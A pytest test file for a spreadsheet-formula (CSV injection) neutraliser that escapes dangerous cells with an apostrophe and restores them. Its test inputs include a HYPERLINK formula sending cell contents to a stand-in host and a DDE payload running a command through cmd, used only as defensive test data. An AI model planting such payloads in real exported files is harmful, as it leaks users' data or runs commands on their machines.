"""CSV cells a spreadsheet would run as a formula are written as text and read back exactly."""

import csv
import io

import pandas as pd
import pytest

from spectragrid.core.spreadsheet import neutralise, neutralised, restore, restored

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]
HARMLESS = ["OK0", "S-001", "a=b", "", "plain text", "'quoted'", "12"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_is_written_as_text(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_values_are_written_as_they_are(value):
    assert neutralise(value) == value
    assert restore(value) == value


@pytest.mark.parametrize("value", ["'=1", "''-2", "'@x"])
def test_values_that_already_start_with_apostrophes_round_trip(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


def test_a_value_a_spreadsheet_saved_without_the_apostrophe_reads_back_as_it_is():
    assert restore("=HYPERLINK(1)") == "=HYPERLINK(1)"


def test_a_frame_survives_a_csv_round_trip_and_numbers_are_untouched():
    # a carriage return inside an unquoted field would end the CSV row itself
    values = [v for v in DANGEROUS + HARMLESS if "\r" not in v]
    frame = pd.DataFrame({"sample_id": values, "score": [-1.5] * len(values)})
    text = neutralised(frame).to_csv(index=False)
    cells = [row[0] for row in csv.reader(io.StringIO(text))]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "-1.5" in text  # a number is not text: no apostrophe
    back = restored(pd.read_csv(io.StringIO(text), dtype={"sample_id": str}, keep_default_na=False))
    pd.testing.assert_frame_equal(back, frame)
